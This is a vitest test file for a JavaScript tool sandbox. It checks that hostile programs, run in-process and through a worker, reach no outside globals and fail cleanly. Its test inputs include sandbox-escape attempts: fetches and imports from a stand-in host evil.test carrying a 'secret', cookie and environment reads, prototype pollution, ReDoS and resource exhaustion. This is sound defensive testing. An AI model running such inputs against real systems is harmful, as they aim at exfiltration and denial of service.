/** What a hostile program may try, each over the core and through a worker's messages. The next call must work. */
import { afterAll, describe, expect, it } from "vitest";
import { WorkerStandIn } from "../../../testing/worker-stand-in.ts";
import { createInProcessSandbox, startEngine } from "../testing/in-process-sandbox.ts";
import { toolRunner } from "../testing/tool-runner.ts";
import type { ToolOutcome, ToolSandbox } from "../tool-sandbox.ts";
import { createJavaScriptService } from "./javascript-service.ts";
import { createJavaScriptSandbox } from "./worker-javascript-sandbox.ts";

/** Milliseconds, for programs that only time ends; the others have what tools have by default. */
const SHORT = 200;

/** Globals of a browser or of Node that there must be nothing of. */
const OUTER_NAMES = [
  "window",
  "self",
  "parent",
  "top",
  "frames",
  "document",
  "location",
  "navigator",
  "indexedDB",
  "caches",
  "localStorage",
  "sessionStorage",
  "XMLHttpRequest",
  "WebSocket",
  "EventSource",
  "Worker",
  "SharedWorker",
  "importScripts",
  "postMessage",
  "onmessage",
  "addEventListener",
  "MessageChannel",
  "BroadcastChannel",
  "WebAssembly",
  "require",
  "process",
  "module",
  "exports",
  "global",
  "Buffer",
  "Deno",
  "Bun",
  "std",
  "os",
  "print",
  "scriptArgs",
  "host",
  "settings",
  "performance",
  "engram",
  "Comlink",
  "Atomics",
  "setInterval",
];

/** Tries that end in a value, which shows that they reached nothing. */
const HARMLESS: [string, string, unknown][] = [
  ["names of outside", `return ${JSON.stringify(OUTER_NAMES)}.filter((name) => name in globalThis)`, []],
  [
    "typeof",
    "return [typeof window, typeof document, typeof process, typeof require]",
    ["undefined", "undefined", "undefined", "undefined"],
  ],
  ["this", "return (function () { return this === undefined })()", true],
  ["the Function constructor", "return (() => {}).constructor('return this')() === globalThis", true],
  [
    "the constructors of async and generator functions",
    "return [async () => {}, function* () {}].map((f) => typeof f.constructor('return typeof window'))",
    ["function", "function"],
  ],
  [
    "the constructor of a host function",
    "return [fetch, agent.readBlock, console.log, setTimeout].map((f) => f.constructor('return typeof process')()  instanceof Promise ? 'promise' : f.constructor('return typeof process')())",
    ["promise", "undefined", "undefined", "undefined"],
  ],
  ["the constructor of an answer", "return agent.readBlocks().constructor === Promise", true],
  ["indirect eval", "return (0, eval)('typeof window + typeof indexedDB')", "undefinedundefined"],
  [
    "what host functions are made of",
    "return [fetch + agent.readBlock].some((text) => text.includes('Engram'))",
    false,
  ],
  ["callers", "try { return fetch.caller } catch (error) { return error.name }", "TypeError"],
  [
    "changing the agent object",
    "try { agent.readBlock = () => 1 } catch (error) { return error.name }",
    "TypeError",
  ],
  [
    "adding to the agent object",
    "try { agent.sendMessage = () => 1 } catch (error) { return error.name }",
    "TypeError",
  ],
  [
    "changing a host function",
    "try { console.log.call = 1 } catch (error) { return error.name }",
    "TypeError",
  ],
  [
    "methods the agent object does not have",
    "return Object.getOwnPropertyNames(agent).concat(Object.getPrototypeOf(agent))",
    ["readBlocks", "readBlock", "appendBlock", "replaceInBlock", "insertArchival", "searchArchival", null],
  ],
  [
    "a prototype in an argument",
    "return [({}).polluted === undefined, Object.keys(a)]",
    [true, ["__proto__"]],
  ],
  [
    "Object.prototype polluted",
    "Object.prototype.polluted = 1; Object.prototype.toJSON = () => 'x'; Object.defineProperty(Object.prototype, 'ok', { value: 1 }); return { a: [{ b: 1 }] }",
    { a: [{ b: 1 }] },
  ],
  [
    "Array.prototype polluted",
    "Array.prototype.push = Array.prototype.map = () => { throw 1 }; Array.prototype[Symbol.iterator] = undefined; Object.defineProperty(Array.prototype, '0', { set() { throw 1 } }); return [[1], 2]",
    [[1], 2],
  ],
  [
    "JSON replaced",
    "JSON.stringify = JSON.parse = () => 'x'; globalThis.JSON = null; return { a: 1 }",
    { a: 1 },
  ],
  ["Promise replaced", "globalThis.Promise = null; return { a: 1 }", { a: 1 }],
  [
    "Map and Set replaced",
    "Map.prototype.get = Set.prototype.has = () => { throw 1 }; return agent.readBlocks().then(() => 2)",
    2,
  ],
  ["a text that ends early", "return 'a\\u0000b'", "a\u0000b"],
  ["eval of more code", "return eval('function other() { return 7 }; other()')", 7],
];

/** Tries that end in a failure. */
const FAILING: [string, string, string[]][] = [
  ["window", "return window.parent.document.cookie", ["ReferenceError"]],
  ["self", "return self.postMessage('x')", ["ReferenceError"]],
  ["parent of the global", "return globalThis.parent.document", ["TypeError"]],
  ["document", "return document.body", ["ReferenceError"]],
  ["indexedDB", "return indexedDB.open('engram')", ["ReferenceError"]],
  [
    "an ungranted host",
    "return fetch('https://evil.test/?secret').then((answer) => answer.text())",
    ["Error"],
  ],
  ["importScripts", "return importScripts('https://evil.test/x.js')", ["ReferenceError"]],
  ["a lazy import", "return import('https://evil.test/x.js')", ["Error"]],
  ["a lazy import from eval", "return (0, eval)(\"import('fs')\")", ["TypeError"]],
  ["a lazy import of data", "return import('data:text/javascript,export default 1')", ["Error"]],
  ["require", "return require('fs')", ["ReferenceError"]],
  ["process", "return process.env", ["ReferenceError"]],
  ["postMessage", "return postMessage({ type: 'APPLY' })", ["ReferenceError"]],
  ["setTimeout of a text", "return setTimeout('1')", ["TypeError"]],
  ["an endless loop", "for (;;);", ["Timeout"]],
  ["an endless loop that catches", "for (;;) try { for (;;); } catch {} finally { for (;;); }", ["Timeout"]],
  ["an endless loop of promises", "return (async () => { for (;;) await null })()", ["Timeout"]],
  [
    "an endless loop of timers",
    "return (async () => { for (;;) await new Promise((f) => setTimeout(f)) })()",
    ["Timeout"],
  ],
  ["an endless generator", "return [...(function* () { for (;;) yield })()]", ["Timeout", "OutOfMemory"]],
  ["an endless pattern", "return /^(a+)+$/.test('a'.repeat(64) + 'b')", ["Timeout"]],
  ["waiting for ever", "return agent.readBlock('never')", ["Timeout"]],
  ["waiting for a late timer", "return new Promise((f) => setTimeout(f, 1e12))", ["Timeout"]],
  ["a promise never settled", "return new Promise(() => {})", ["NeverSettled"]],
  ["a then never called", "return { then() {} }", ["NeverSettled"]],
  ["recursion", "const f = () => 1 + f(); return f()", ["RangeError"]],
  ["recursion through the engine", "const f = () => [1].map(f); return f()", ["RangeError"]],
  ["recursion in data", "return JSON.parse('['.repeat(1e5))", ["RangeError", "SyntaxError"]],
  ["recursion in code", "return eval('('.repeat(1e5))", ["RangeError", "SyntaxError"]],
  [
    "recursion of a proxy",
    "const p = new Proxy({}, { get: (_, key, self) => self[key] }); return p.x",
    ["RangeError"],
  ],
  ["a huge buffer", "return new ArrayBuffer(3e9).byteLength", ["OutOfMemory", "RangeError"]],
  ["huge buffers", "const all = []; for (;;) all.push(new ArrayBuffer(1e6))", ["OutOfMemory"]],
  ["a huge text", "let text = 'x'; for (;;) text += text", ["OutOfMemory", "InternalError"]],
  ["many texts", "const all = []; for (let i = 0; ; i++) all.push('x'.repeat(1e5) + i)", ["OutOfMemory"]],
  ["a huge array", "return new Array(4e8).fill(1).length", ["OutOfMemory", "Timeout"]],
  ["a hundred megabytes of result", "return 'x'.repeat(1e8)", ["OutputTooLarge", "OutOfMemory"]],
  ["much of result", "return 'x'.repeat(2e6)", ["OutputTooLarge"]],
  ["a long list", "return new Array(4e9)", ["OutputTooLarge"]],
  [
    "a result that grows as it is read",
    "const all = []; all.push({ get x() { all.push(all[0]); return 'y' } }, 1); return new Proxy(all, { get: (t, k) => (k === 'length' ? t.length + 1e9 : t[k]) })",
    ["OutputTooLarge", "TypeError"],
  ],
  [
    "a hundred megabytes of log",
    "for (let i = 0; i < 100; i++) console.log('x'.repeat(1e6))",
    ["OutputTooLarge"],
  ],
  ["endless lines of log", "for (;;) console.log()", ["OutputTooLarge", "Timeout"]],
  [
    "endless lines of log that catch",
    "for (;;) try { console.log('x'.repeat(1e5)) } catch {}",
    ["OutputTooLarge"],
  ],
  ["a thrown text", "throw 'no'", ["Error"]],
  ["a thrown nothing", "throw undefined", ["Error"]],
  ["a thrown function", "throw () => {}", ["Error"]],
  [
    "a thrown proxy",
    "throw new Proxy(new Error('x'), { get() { throw 1 }, getPrototypeOf() { throw 1 } })",
    ["Error"],
  ],
  [
    "an error that takes for ever to read",
    "throw Object.defineProperty(new Error(), 'message', { get() { for (;;); } })",
    ["Timeout"],
  ],
  ["a getter that throws", "return { get a() { throw new TypeError('got') } }", ["TypeError"]],
  ["a getter that loops", "return { get a() { for (;;); } }", ["Timeout"]],
  ["a toJSON that throws", "return { toJSON() { throw new TypeError('got') } }", ["TypeError"]],
  ["a toJSON that loops", "return { toJSON() { for (;;); } }", ["Timeout"]],
  [
    "a getter without an end",
    "const deep = { get next() { return Object.create(Object.getPrototypeOf(deep), Object.getOwnPropertyDescriptors(deep)) } }; return deep",
    ["TypeError"],
  ],
  ["a proxy that loops", "return new Proxy({}, { ownKeys() { for (;;); } })", ["Timeout"]],
  [
    "a proxy that throws",
    "return new Proxy({}, { getPrototypeOf() { throw new TypeError('x') } })",
    ["TypeError"],
  ],
  [
    "a revoked proxy",
    "const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy",
    ["TypeError"],
  ],
  ["a cycle", "const round = []; round.push(round); return round", ["TypeError"]],
  [
    "too many requests at once",
    "return Promise.all(Array.from({ length: 1000 }, () => agent.readBlock('never')))",
    ["RangeError"],
  ],
  ["too many timers", "for (let i = 0; i < 1e6; i++) setTimeout(() => {}, 1e6)", ["RangeError"]],
  ["too many random bytes", "return crypto.getRandomValues(new Uint8Array(1e6))", ["RangeError"]],
  ["a request that is too large", "return agent.insertArchival('x'.repeat(2e6))", ["RangeError"]],
];

const service = createJavaScriptService(startEngine);
const overMessages = createJavaScriptSandbox({
  startWorker: () => new WorkerStandIn(service).asWorker(),
  // One thread serves both sides here: the page's clock must not be first.
  graceMs: 60_000,
});
afterAll(() => overMessages.close());

const SANDBOXES: [string, ToolSandbox][] = [
  ["the core", createInProcessSandbox()],
  ["a worker's messages", overMessages],
];

describe.each(SANDBOXES)("over %s", (_, sandbox) => {
  const run = toolRunner(sandbox);
  const attempt = async (body: string, time_ms?: number): Promise<ToolOutcome> => {
    const outcome = await run(`function tool(a) { ${body} }`, {
      args: { a: JSON.parse('{"__proto__": {"polluted": 1}}') },
      limits: time_ms === undefined ? {} : { time_ms },
      host: {
        callAgent: (_method, [label]) => (label === "never" ? new Promise(() => {}) : Promise.resolve([])),
      },
    });
    // Nothing of it is left: neither here nor for the next call.
    expect({}).not.toHaveProperty("polluted");
    expect(
      await run("function tool() { return [({}).polluted === undefined, [1].map((n) => n + 1)] }"),
    ).toMatchObject({
      failure: null,
      value: [true, [2]],
    });
    return outcome;
  };

  it.each(HARMLESS)("%s reaches nothing", async (_, body, value) => {
    expect(await attempt(body)).toMatchObject({ failure: null, value });
  });

  it.each(FAILING)("%s fails", async (_, body, names) => {
    const { failure, value, log } = await attempt(body, names[0] === "Timeout" ? SHORT : undefined);
    expect(names).toContain(failure?.name);
    expect(value).toBeNull();
    expect(log.reduce((all, { text }) => all + text.length, 0)).toBeLessThanOrEqual(1_000_001);
  });

  it("the globals are those of the language, and ours", async () => {
    const { value } = await run(
      "function tool() { return Object.getOwnPropertyNames(globalThis).filter((name) => !/^[A-Z]/.test(name)).sort() }",
    );
    expect(value).toEqual([
      "agent",
      "clearTimeout",
      "console",
      "decodeURI",
      "decodeURIComponent",
      "encodeURI",
      "encodeURIComponent",
      "escape",
      "eval",
      "fetch",
      "globalThis",
      "isFinite",
      "isNaN",
      "parseFloat",
      "parseInt",
      "setTimeout",
      "tool",
      "undefined",
      "unescape",
    ]);
  });

  it("a key of the prototype's name in a result stays a key", async () => {
    const { value } = await run(
      'function tool() { return JSON.parse(\'{"__proto__": {"polluted": 1}, "b": 2}\') }',
    );
    expect(Object.keys(value as object)).toEqual(["__proto__", "b"]);
    expect((value as { polluted?: number }).polluted).toBeUndefined();
  });

  it("nothing survives a call", async () => {
    await run(
      "globalThis.left = 1; Math.left = 1; function tool() { setTimeout(() => { globalThis.left = 2 }, 1) }",
    );
    expect((await run("function tool() { return [typeof left, typeof Math.left] }")).value).toEqual([
      "undefined",
      "undefined",
    ]);
  });
});
